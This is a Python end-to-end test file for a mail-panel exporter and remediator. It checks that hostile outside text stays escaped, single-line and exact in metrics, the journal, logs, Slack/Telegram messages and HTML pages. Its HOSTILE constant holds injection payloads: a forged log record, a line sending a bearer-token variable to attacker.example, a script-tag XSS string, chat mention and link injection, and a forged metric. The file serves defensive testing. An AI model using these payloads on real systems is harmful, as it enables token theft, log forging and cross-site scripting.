"""Outside text through every sink: what a panel answers (``mess``, a listing's senders),
what an alert carries (labels, annotations, its name) and what an operator types (``by``,
``comment``) goes through the real exporter and remediator into /metrics, the journal,
the logs (text and json), chat (webhook, Slack, Telegram) and the HTML pages, and each
sink keeps it as data: parseable, exact where it stores, escaped where it shows, on one
line where it writes lines, never a line, tag, mention, sample or record of its own.

To add a page (the operator console's, for example), add it to :data:`HTML_PAGES`.
"""

from __future__ import annotations

import html
import json
import re
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from http.server import ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml
from prometheus_client.parser import text_string_to_metric_families

from remediator import chat
from tests.chat_support import FORGED, slack_lines, telegram_lines
from tests.console_support import HostileTextPanel
from tests.remediator_support import TOKEN, am_alert, notification
from tests.support import PYTHON, free_port, require_binary, running, sim_args, wait_until
from tests.trust_support import Receiver

pytestmark = pytest.mark.e2e

FORGED_RECORD = "2001-02-03 04:05:06,789 ERROR forged.logger: a record nobody wrote"
HOSTILE = (
    f"x\n{FORGED_RECORD}\r\u2028\u0085{FORGED} -H 'Authorization: Bearer "
    "$BRAINYCP_REMEDIATOR_TOKEN' https://attacker.example/ \u202eoverride\u202c <!channel> "
    '<https://evil.example|click> `tick` *b* </code><script>alert(1)</script> &amp; "q" '
    '\\ {"x": 1}\x1b[2J\n# TYPE forged_metric counter\nforged_metric_total 1'
)
"""Newlines and separators, a forged log record, approval line, metric and tags."""
QUEUE_SENDER = 'e\u202evil<!channel>&`*_"\\{}</td><script>@spam.example'
"""A sender in a panel's listing (no spaces: a listing has none)."""
LABEL_SENDER = 'e\u202evil!channel&`*_"\\{}|x@spam.example'
"""A sender in an alert label (the selection refuses <, > and spaces in an address)."""
BY = "mallory\n" + FORGED_RECORD + "<b>\u2028"
SIM_PANELS = ("web01", "web02", "web03")
HTML_PAGES = [("remediator", "/"), ("exporter", "/")]
"""Every HTML page served today: (daemon, path). The operator console adds its pages."""
RAW_MARKERS = ("<script>", "<!channel>", "</td><script>", "<https://evil")


class _HostilePanel(HostileTextPanel):
    """A panel whose every answer is an API error whose ``mess`` is :data:`HOSTILE`."""

    mess = HOSTILE


@dataclass
class Scene:
    log_format: str
    remediator: str
    exporter: str
    tmp: Path
    receiver: Receiver
    ids: dict[str, int]
    labels: dict[str, str]
    paused_page: str

    def get(self, daemon: str, path: str) -> httpx.Response:
        base = self.remediator if daemon == "remediator" else self.exporter
        headers = {"Authorization": f"Bearer {TOKEN}"} if daemon == "remediator" else {}
        return httpx.get(base + path, headers=headers, timeout=10)


def write_config(tmp: Path, sim: int, hostile: int, rem: int, exp: int, hook: str) -> Path:
    (tmp / "panel.pw").write_text("admin\n")
    (tmp / "webhook.token").write_text(TOKEN + "\n")
    (tmp / "bot.token").write_text("77:sinks-BOT\n")
    for secret in ("panel.pw", "webhook.token", "bot.token"):
        (tmp / secret).chmod(0o600)  # no start-up warning line before logging is set up
    panels: dict[str, Any] = {
        name: {"url": f"http://127.0.0.1:{sim}/panel/{name}/api/api.php"} for name in SIM_PANELS
    }
    panels["hostile"] = {"url": f"http://127.0.0.1:{hostile}/api/api.php"}
    every = list(chat_outcomes())
    config = {
        "defaults": {"username": "admin", "password_file": str(tmp / "panel.pw"), "timeout": "5s"},
        "panels": panels,
        "exporter": {"listen": f"127.0.0.1:{exp}", "interval": "1s", "list_interval": "1s",
                     "top_senders": 3},
        "remediator": {
            "listen": f"127.0.0.1:{rem}", "external_url": f"http://127.0.0.1:{rem}",
            "auth": {"bearer_token_file": str(tmp / "webhook.token")},
            "state_file": str(tmp / "journal.sqlite"),
            "rate_limit": {"max_actions": 1000, "per": "1h"}, "shutdown_grace": "1s",
            "notify": [
                {"name": "hook", "type": "webhook", "url": f"{hook}/hook", "outcomes": every},
                {"name": "chat", "type": "slack", "url": f"{hook}/services/T/B/x",
                 "outcomes": every},
                {"name": "tg", "type": "telegram", "api_url": hook, "chat_id": -1,
                 "bot_token_file": str(tmp / "bot.token"), "outcomes": every},
            ],
            "rules": [
                {"name": "contain-sender", "matchers": ['alertname="SenderSurge"'],
                 "action": "delete_messages", "select": {"sender": "{{ labels.sender }}"},
                 "approval": "required", "cooldown": "0s"},
                {"name": "clean-hostile", "matchers": ['alertname="HostileFrozen"'],
                 "action": "delete_frozen", "cooldown": "0s"},
                {"name": "odd-name", "matchers": ['kind="odd"'], "action": "delete_frozen",
                 "cooldown": "0s"},
            ],
        },
    }  # fmt: skip
    path = tmp / "config.yml"
    path.write_text(yaml.safe_dump(config))
    return path


def chat_outcomes() -> tuple[str, ...]:
    from remediator.settings.targets import NOTIFY_OUTCOMES

    return NOTIFY_OUTCOMES


@pytest.fixture(scope="module", params=["text", "json"])
def scene(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Scene]:
    tmp = tmp_path_factory.mktemp(f"sinks-{request.param}")
    fmt = ["--log-format", request.param]
    sim_port, rem_port, exp_port = free_port(), free_port(), free_port()
    sim = f"http://127.0.0.1:{sim_port}"
    args = sim_args(sim_port, "--seed", "11")
    for name in SIM_PANELS:
        args += ["--panel", f"{name}:quiet:exim"]
    receiver = Receiver().start()
    hostile = ThreadingHTTPServer(("127.0.0.1", 0), _HostilePanel)
    threading.Thread(target=hostile.serve_forever, daemon=True).start()
    config = write_config(tmp, sim_port, hostile.server_address[1], rem_port, exp_port,
                          receiver.url)  # fmt: skip
    rem, exp = f"http://127.0.0.1:{rem_port}", f"http://127.0.0.1:{exp_port}"
    try:
        with running(args, log=tmp / "sim.log", ready_url=f"{sim}/healthz"):
            for name in SIM_PANELS:
                httpx.post(f"{sim}/panel/{name}/_sim/pause", json={"paused": True})
            queue = f"{sim}/panel/web03/_sim/queue"
            httpx.post(queue, json={"add": 60, "sender": QUEUE_SENDER}).raise_for_status()
            queue = f"{sim}/panel/web01/_sim/queue"
            httpx.post(queue, json={"add": 4, "sender": LABEL_SENDER}).raise_for_status()
            with (
                running([PYTHON, "-m", "remediator.cli", "--config", str(config), *fmt],
                        log=tmp / "remediator.log", ready_url=f"{rem}/healthz"),
                running([PYTHON, "-m", "exporter.cli", "--config", str(config), *fmt],
                        log=tmp / "exporter.log", ready_url=f"{exp}/healthz"),
            ):  # fmt: skip
                yield feed(Scene(request.param, rem, exp, tmp, receiver, {}, {}, ""))
    finally:
        hostile.shutdown()
        hostile.server_close()
        receiver.stop()


def feed(scene: Scene) -> Scene:
    """Send every piece of outside text in, and wait until every sink has had it."""
    client = httpx.Client(headers={"Authorization": f"Bearer {TOKEN}"}, timeout=10)
    labels = {"sender": LABEL_SENDER, "note": HOSTILE, "severity": "warning"}
    alerts = {
        "approval": am_alert("SenderSurge", "web01", **labels),
        "failing": am_alert("HostileFrozen", "hostile", note=HOSTILE),
        "odd_name": am_alert(HOSTILE, "web02", kind="odd"),
        "unknown_panel": am_alert("HostileFrozen", HOSTILE),
    }
    for alert in alerts.values():
        alert["annotations"] = {"summary": HOSTILE, "description": HOSTILE}
    for name, alert in alerts.items():
        answer = client.post(f"{scene.remediator}/webhook", json=notification(alert))
        assert answer.status_code == 200, answer.text
        scene.ids[name] = answer.json()["results"][0]["action_id"]
    scene.labels = alerts["approval"]["labels"]
    approve = f"{scene.remediator}/actions/{scene.ids['approval']}/approve"
    assert client.post(approve, json={"by": BY, "comment": HOSTILE}).status_code == 200
    assert client.post(f"{scene.remediator}/pause", json={"by": BY, "comment": HOSTILE}).is_success
    scene.paused_page = client.get(f"{scene.remediator}/").text
    assert client.post(f"{scene.remediator}/resume", json={"by": BY}).is_success

    def finished() -> bool:
        rows = [client.get(f"{scene.remediator}/actions/{i}").json() for i in scene.ids.values()]
        return all(r["outcome"] not in ("pending", "running") for r in rows)

    wait_until(finished, what="every action to finish")
    wait_until(lambda: QUEUE_SENDER in exporter_senders(scene), what="the exporter's top sender")
    wait_until(lambda: "hostile" in scene.get("exporter", "/").text, what="the fleet view")
    # Each chat target has had every message: the approval request and its end, the
    # failure, the odd name's end, the pause and the resume.
    wait_until(lambda: len(scene.receiver.bodies("/services")) >= 6, what="the chat messages")
    wait_until(lambda: len(scene.receiver.bodies("/bot")) >= 6, what="the telegram messages")
    client.close()
    return scene


def exporter_senders(scene: Scene) -> set[str]:
    text = scene.get("exporter", "/metrics").text
    return {
        s.labels["sender"]
        for family in text_string_to_metric_families(text)
        for s in family.samples
        if "sender" in s.labels
    }


# ----------------------------------------------------------------------------- metrics


@pytest.mark.parametrize("daemon", ["remediator", "exporter"])
def test_metrics_parse_and_lint_with_outside_text_in_them(scene: Scene, daemon: str) -> None:
    text = scene.get(daemon, "/metrics").text
    samples = [s for f in text_string_to_metric_families(text) for s in f.samples]
    assert not [s for s in samples if s.name.startswith("forged_metric")]
    assert not [line for line in text.split("\n") if line.startswith(("forged", "# TYPE forged"))]
    if daemon == "exporter":
        assert QUEUE_SENDER in exporter_senders(scene)  # exact, through the escaping
    promtool = require_binary("promtool", "apt-get install prometheus")
    done = subprocess.run([promtool, "check", "metrics"], input=text, capture_output=True,
                          text=True, timeout=30)  # fmt: skip
    assert done.returncode == 0 and done.stdout.strip() == "", done.stdout + done.stderr


# ----------------------------------------------------------------------------- journal


def test_the_journal_gives_back_exactly_what_came_in(scene: Scene) -> None:
    def row(name: str) -> dict[str, Any]:
        answer = scene.get("remediator", f"/actions/{scene.ids[name]}")
        assert answer.status_code == 200
        return dict(answer.json())

    approval = row("approval")
    assert approval["labels"] == scene.labels
    assert approval["params"]["select"]["sender"] == LABEL_SENDER
    assert approval["decision"]["by"] == BY and approval["decision"]["comment"] == HOSTILE
    assert approval["outcome"] == "succeeded" and approval["messages_total"] == 4
    assert {m["sender"] for m in approval["messages"]} == {LABEL_SENDER}
    failing = row("failing")
    assert failing["outcome"] == "failed" and HOSTILE[:200] in failing["reason"]
    assert row("odd_name")["alert"]["alertname"] == HOSTILE
    unknown = row("unknown_panel")
    assert unknown["outcome"] == "rejected" and unknown["panel"] == HOSTILE


# ----------------------------------------------------------------------------- logs

_TEXT_RECORD = re.compile(
    r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} (DEBUG|INFO|WARNING|ERROR|CRITICAL)"
)


@pytest.mark.parametrize("daemon", ["remediator", "exporter"])
def test_logs_hold_one_record_per_line_and_no_forged_one(scene: Scene, daemon: str) -> None:
    lines = (scene.tmp / f"{daemon}.log").read_text().split("\n")
    lines = [line for line in lines if line]
    assert lines
    for line in lines:
        if scene.log_format == "json":
            record = json.loads(line)
            assert set(record) >= {"ts", "level", "logger", "msg"}, line
        else:
            assert _TEXT_RECORD.match(line), f"not a record of its own: {line[:200]!r}"
            assert not line.startswith(FORGED_RECORD[:19])
    # The outside text did reach the log, on one line (not left out by luck).
    text = "\n".join(lines)
    if scene.log_format == "json":
        values = [json.dumps(json.loads(line), ensure_ascii=False) for line in lines]
        assert any("forged.logger" in v for v in values)
    else:
        assert "\\n" + FORGED_RECORD in text
        # A bidi override from outside is shown as its escape, never applied to the line.
        assert "\u202e" not in text and "\\u202e" in text


# ----------------------------------------------------------------------------- chat


def test_chat_shows_outside_text_only_quoted_inside_the_remediators_lines(scene: Scene) -> None:
    messages = [("slack", b["text"]) for b in scene.receiver.bodies("/services")]
    messages += [("telegram", b["text"]) for b in scene.receiver.bodies("/bot")]
    seen = set()
    for markup, text in messages:
        lines = slack_lines(text) if markup == "slack" else telegram_lines(text)
        assert all(w.startswith(chat.PREFIXES) for w, _ in lines[1:]), text
        assert not any(w.startswith(FORGED) for w, _ in lines)
        seen |= {q for _, quoted in lines for q in quoted}
    # The hostile pieces were shown (quoted, escaped, cut), not dropped.
    assert chat.one_line(BY) in seen and chat.one_line(LABEL_SENDER) in seen
    assert any(q.startswith("api_error") or chat.one_line(HOSTILE)[:40] in q for q in seen)
    # The webhook target's events keep the fields exactly.
    events = scene.receiver.bodies("/hook")
    approval = [e for e in events if e.get("action_id") == scene.ids["approval"]]
    assert approval and all(e["alert"]["labels"] == scene.labels for e in approval)
    assert any(e.get("by") == BY for e in events if e["kind"] == "control")


# ----------------------------------------------------------------------------- HTML


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


@pytest.mark.parametrize(("daemon", "path"), HTML_PAGES)
def test_html_pages_show_outside_text_escaped(scene: Scene, daemon: str, path: str) -> None:
    pages = [scene.get(daemon, path).text]
    if (daemon, path) == ("remediator", "/"):
        pages.append(scene.paused_page)  # the brakes, with who paused and why
    for page in pages:
        for marker in RAW_MARKERS:
            assert marker not in page, marker
        parsed = _Tags()
        parsed.feed(page)
        assert "script" not in parsed.tags
        shown = "".join(parsed.text)
        if daemon == "exporter":
            assert QUEUE_SENDER in shown or html.escape(QUEUE_SENDER) in page
    if daemon == "remediator":
        assert "mallory" in scene.paused_page and "&lt;b&gt;" in scene.paused_page
